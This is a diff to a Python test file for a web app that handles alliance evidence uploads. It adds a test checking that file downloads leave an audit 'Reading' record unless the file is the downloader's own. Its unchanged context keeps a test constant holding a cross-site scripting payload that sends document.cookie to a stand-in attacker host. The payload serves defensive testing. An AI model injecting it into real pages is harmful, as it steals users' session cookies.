@@ -20,6 +20,7 @@ from hanse.adoption.models import Entry, Evidence
 from hanse.adoption.rules import Status
 from hanse.alliances.models import Alliance
 from hanse.history import Refused
+from hanse.history.models import Reading
 from tests import world
 
 SCRIPT = b"<script>document.location='https://evil.example/'+document.cookie</script>"
@@ -233,6 +234,25 @@ def test_taken_file_comes_back_byte_by_byte_as_a_download_under_a_clean_name(lat
     assert answer.headers["Content-Disposition"] == "attachment; filename*=utf-8''acta%20del%20ca%C3%B1%C3%B3n.pdf"
     assert answer.headers["Content-Type"] == "application/octet-stream"
     assert str(evidence.file.name).rpartition("/")[2].startswith(evidence.sha256)  # nothing of the given name is a path
+
+
+def test_download_leaves_a_reading_unless_the_file_is_ones_own(latam: Alliance) -> None:
+    sender, reader, unknown = world.secretariat(latam), world.secretariat(latam), None
+    for by in (sender, unknown):
+        world.entry(latam.member_cities.get(), "selection", proofs=[Proof(file=ContentFile(PDF, name="a.pdf"))], by=by)
+
+    for evidence in Evidence.objects.order_by("pk"):
+        for who in (sender, reader):
+            client = Client()
+            client.force_login(who)
+            assert client.get(evidence.get_absolute_url()).status_code == 200
+
+    noted = Reading.objects.order_by("pk").values_list("what", "person_id", "about", "without_account")
+    assert list(noted) == [
+        ("adoption.evidence_exported", reader.pk, [sender.pk], 0),
+        ("adoption.evidence_exported", sender.pk, [], 1),
+        ("adoption.evidence_exported", reader.pk, [], 1),
+    ]
 
 
 def test_evidence_of_another_alliance_is_not_there(latam: Alliance) -> None:
